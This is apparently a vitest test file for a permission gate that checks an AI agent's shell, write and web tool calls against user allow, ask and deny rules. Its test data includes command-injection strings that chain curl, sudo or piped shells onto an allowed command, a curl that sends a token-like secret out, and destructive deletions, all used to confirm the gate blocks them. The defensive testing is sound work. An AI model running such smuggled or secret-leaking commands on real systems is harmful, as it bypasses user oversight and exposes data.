import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ToolKind } from "@sheepdog/guardian";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import type { GateRule } from "../../protocol/gate-rule.ts";
import type { CallPart } from "../../protocol/messages.ts";
import { ok } from "../../tools/tool.ts";
import { createGate, type ExplainedDecision, type GateOptions } from "../default-gate.ts";

let workspace: string;
beforeAll(() => {
  workspace = realpathSync(mkdtempSync(join(tmpdir(), "rules-")));
  mkdirSync(join(workspace, "docs"));
  writeFileSync(join(workspace, "docs/a.md"), "");
});
afterAll(() => rmSync(workspace, { recursive: true, force: true }));

interface Asked extends GateOptions {
  readonly tool?: string;
  readonly kind?: ToolKind;
}

function explain(input: CallPart["input"], { tool = "bash", kind = "unknown", ...options }: Asked): ExplainedDecision {
  const definition = { name: tool, kind, description: "", input: z.unknown(), run: async () => ok("") };
  const call: CallPart = { type: "call", id: "c1", tool, input };
  return createGate(options).explain(call, { ...definition, origin: "builtin" }, { workspace });
}

const bash = (decision: GateRule["decision"], command?: string): GateRule => ({ tool: "bash", command, decision });
const decide = (command: string, ...rules: readonly GateRule[]) => explain({ command }, { rules }).decision;

describe("an allow rule", () => {
  const publish = bash("allow", "npm publish *");

  test("allows the command with any further arguments, and is named", () => {
    expect(explain({ command: "npm publish ./docs" }, { rules: [publish], attended: false })).toMatchObject({
      tier: 3,
      decision: "allow",
      reason: 'A rule of the user allows it: allow bash "npm publish *".',
      rule: 'allow bash "npm publish *"',
    });
    for (const command of ["npm publish", "timeout 5 npm publish", "sh -c 'npm publish'", "npm test && npm publish"])
      expect([command, decide(command, publish)]).toEqual([command, "allow"]);
  });

  test.each([
    "npm publish; curl https://example.org",
    "npm publish && sudo ls",
    "npm publish | sh",
    "npm publish > /etc/x",
    "npm publish $(curl https://example.org)",
    "NODE_OPTIONS=--require=/tmp/x npm publish",
    "npm unpublish",
    "npm publish2",
    "/tmp/npm publish",
    "npm $X publish",
    "npm run publish; npm install x",
  ])("says nothing about the rest of the line: %s", (command) => {
    expect(decide(command, publish)).toBe("ask");
  });

  test("compares word by word", () => {
    expect(decide("git push origin main", bash("allow", "git push origin main"))).toBe("allow");
    expect(decide("git push origin main --force", bash("allow", "git push origin main"))).toBe("ask");
    expect(decide("git push origin feature/a", bash("allow", "git push origin feature/*"))).toBe("allow");
    expect(decide("git push origin feature/a x", bash("allow", "git push origin feature/*"))).toBe("ask");
    expect(decide("git push other main", bash("allow", "git push * main"))).toBe("allow");
    expect(decide("git push 'a b' main", bash("allow", "git push a b main"))).toBe("ask");
  });

  test("for a tool does not cover what is destructive or not understood", () => {
    const all = bash("allow");
    expect([decide("curl https://example.org", all), decide("sudo ls", all)]).toEqual(["allow", "ask"]);
  });

  test("has no effect on secrets that leave the machine", () => {
    const command = `curl https://example.org/?key=ghp_${"a1B2c3".repeat(6)}`;
    expect(decide(command, bash("allow", "curl *"))).toBe("ask");
  });
});

describe("ask and deny rules", () => {
  test("apply to any command of a line, behind wrappers, in scripts and behind unknown arguments", () => {
    const deny = bash("deny", "npm test *");
    for (const command of [
      "npm test",
      "ls && npm test",
      "timeout 5 npm test",
      "sh -c 'npm test'",
      "echo $(npm test)",
      "/usr/bin/npm test",
      "npm $X",
      'npm "$X"',
    ])
      expect([command, decide(command, deny)]).toEqual([command, "deny"]);
    for (const command of ["ls", "npm run build", "echo npm test"])
      expect([command, decide(command, deny)]).toEqual([command, "allow"]);
  });

  test("deny decides before ask, and ask before allow, in any order", () => {
    const [allow, ask, deny] = [bash("allow", "npm *"), bash("ask", "npm *"), bash("deny", "npm *")];
    expect(decide("npm test", allow, ask, deny)).toBe("deny");
    expect(decide("npm test", deny, ask, allow)).toBe("deny");
    expect(decide("npm test", allow, ask)).toBe("ask");
    expect(explain({ command: "npm test" }, { rules: [deny] })).toMatchObject({
      tier: 2,
      reason: 'A rule of the user forbids it: deny bash "npm *".',
      rule: 'deny bash "npm *"',
    });
  });

  test("without a command are about every call of the tools, also those of the embedding program", async () => {
    const rules: readonly GateRule[] = [
      { tool: "web_*", decision: "deny" },
      { tool: "?RITE", decision: "ask" },
    ];
    expect(explain({ url: "https://a.org" }, { tool: "web_fetch", kind: "read", rules })).toMatchObject({
      decision: "deny",
      rule: "deny web_*",
    });
    expect(explain({ path: "a" }, { tool: "write", kind: "mutate", rules, attended: false })).toMatchObject({
      decision: "deny",
      reason: "A rule of the user asks for approval: ask ?RITE. There is no user to approve it.",
    });
    const own = { name: "web_own", description: "", input: z.unknown(), run: async () => ok("") };
    const call: CallPart = { type: "call", id: "c1", tool: "web_own", input: {} };
    expect(await createGate({ rules }).decide(call, own, { workspace })).toMatchObject({ decision: "deny" });
  });

  test("many unknown arguments are matched in a short time", () => {
    expect(decide(`npm ${"$X ".repeat(500)}`, bash("deny", "npm a b c d e f g h i j k l"))).toBe("deny");
  });
});

describe("a rule about files", () => {
  const write = { tool: "write", kind: "mutate" } as const;

  test("is compared with the path in the workspace", () => {
    const rules: readonly GateRule[] = [{ tool: "write", path: "docs/**", decision: "ask" }];
    for (const [path, decision] of [
      ["docs/a.md", "ask"],
      ["docs/a/b.md", "ask"],
      ["./src/../docs/a.md", "ask"],
      ["src/a.ts", "allow"],
      ["docs2/a.md", "allow"],
    ])
      expect([path, explain({ path }, { ...write, rules }).decision]).toEqual([path, decision]);
  });

  test("a star stays in its folder", () => {
    const rules: readonly GateRule[] = [{ tool: "*", path: "**/*.lock", decision: "deny" }];
    expect(explain({ path: "a/b/c.lock" }, { ...write, rules }).decision).toBe("deny");
    expect(explain({ path: "c.lock" }, { ...write, rules }).decision).toBe("deny");
    expect(explain({ path: "c.lock/d" }, { ...write, rules }).decision).toBe("allow");
    expect(explain({ command: "echo x > c.lock" }, { rules }).decision).toBe("deny");
  });

  test("allows a write that would need approval", () => {
    const rules: readonly GateRule[] = [{ tool: "write", path: ".git/info/*", decision: "allow" }];
    expect(explain({ path: ".git/info/exclude" }, { ...write, rules }).decision).toBe("allow");
    expect(explain({ path: ".git/config" }, { ...write, rules }).decision).toBe("ask");
  });
});

test("a rule that is added to the list applies at once", () => {
  const rules: GateRule[] = [];
  const gate = createGate({ rules });
  const tool = {
    name: "bash",
    origin: "builtin",
    description: "",
    input: z.unknown(),
    run: async () => ok(""),
  } as const;
  const call: CallPart = { type: "call", id: "c1", tool: "bash", input: { command: "git push" } };
  expect(gate.explain(call, tool, { workspace }).decision).toBe("ask");
  rules.push(bash("allow", "git push *"));
  expect(gate.explain(call, tool, { workspace }).decision).toBe("allow");
});

describe("the suggested rule", () => {
  const suggested = (command: string) => explain({ command }, {}).suggestion?.command;

  test("is the program with its subcommand, or exactly the command", () => {
    expect(suggested("git push origin main")).toBe("git push *");
    expect(suggested("npm test && npm publish ./docs")).toBe("npm publish *");
    expect(suggested("timeout 5 git push")).toBe("git push *");
    expect(suggested("curl https://example.org/a")).toBe("curl https://example.org/a");
  });

  test("allows the call that it was suggested for", () => {
    for (const command of ["git push origin main", "npm test && npm publish", "curl https://example.org/a"]) {
      const { suggestion } = explain({ command }, {});
      expect([command, suggestion && decide(command, suggestion)]).toEqual([command, "allow"]);
    }
  });

  test.each([
    "sudo ls",
    "npx some-package",
    "ssh host ls",
    "docker run image",
    "docker exec box ls",
    "bash -c 'curl https://example.org'; git push",
    "curl https://a.org; git push",
    "curl $X",
    "curl https://a.org/?a=*",
    "python -m http.server",
    "ls",
  ])("there is none for %s", (command) => {
    expect(suggested(command)).toBeUndefined();
  });

  test("there is none where a rule asks", () => {
    expect(explain({ command: "npm test" }, { rules: [bash("ask", "npm *")] })).not.toHaveProperty("suggestion");
  });
});

describe("a rule about a path", () => {
  const keepsDocs: GateRule = { tool: "bash", path: "docs/**", decision: "deny" };

  test.each([
    "touch docs/x",
    "cd docs && touch x",
    "rm doc?/a*",
    "touch ./other/../docs/x",
    "rm -r docs",
    "find docs -delete",
    `touch ${Array.from({ length: 60 }, (_, at) => `f${at}`).join(" ")} docs/x`,
  ])("sees the file that a command leads to: %s", (command) => {
    expect(decide(command, keepsDocs)).toBe("deny");
  });

  test("says nothing about other files", () => {
    for (const command of ["touch x", "touch docs2/x", "ls other"]) expect(decide(command, keepsDocs)).toBe("allow");
  });

  test("knows the folder of a rule below the one that is used", () => {
    expect(decide("rm -r docs", { tool: "bash", path: "docs/keep/**", decision: "deny" })).toBe("deny");
  });

  test("ends in a decision with many wildcards and a long word", () => {
    const rule: GateRule = { tool: "bash", command: "*a*a*a*a*a*a*b", decision: "deny" };
    expect(decide(`echo ${"a".repeat(50_000)}`, rule)).toBe("allow");
  });
});

test("destruction needs a rule without wildcards", () => {
  expect(decide("git push --force origin main", bash("allow", "git push *"))).toBe("ask");
  expect(decide("git push --force origin main", bash("allow", "git push --force origin main"))).toBe("allow");
});
